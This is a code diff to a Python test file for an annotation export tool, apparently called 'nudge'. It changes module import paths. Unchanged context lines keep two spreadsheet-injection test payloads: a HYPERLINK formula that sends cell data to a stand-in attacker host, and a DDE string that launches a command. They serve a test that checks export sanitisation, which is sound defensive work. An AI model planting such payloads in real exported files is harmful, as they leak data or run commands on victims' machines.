@@ -16,10 +16,11 @@ import pytest
 from conftest import SMALL_NET, nudge_serve
 from gradio_client import Client
 
-from loop.datasets import Dataset
-from loop.export import export_annotations, spreadsheet_safe
-from loop.session import Session, SessionConfig
-from loop.store import Store
+from nudge.loop.config.settings import SessionConfig
+from nudge.loop.datasets import Dataset
+from nudge.loop.export.annotations import export_annotations, spreadsheet_safe
+from nudge.loop.session.session import Session
+from nudge.loop.store.store import Store
 
 HYPERLINK = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
 SESSION = "+SUM(1+1)*cmd|' /C calc'!A0"
@@ -37,7 +38,7 @@ def test_cells_a_spreadsheet_would_run_get_a_leading_quote(cell, safe):
 
 def nudge(*arguments: str) -> subprocess.CompletedProcess:
     script = Path(sys.executable).with_name("nudge")
-    command = [str(script)] if script.exists() else [sys.executable, "-m", "loop.cli"]
+    command = [str(script)] if script.exists() else [sys.executable, "-m", "nudge.loop.cli"]
     return subprocess.run([*command, *arguments], capture_output=True, text=True, timeout=120, check=True)
 
 
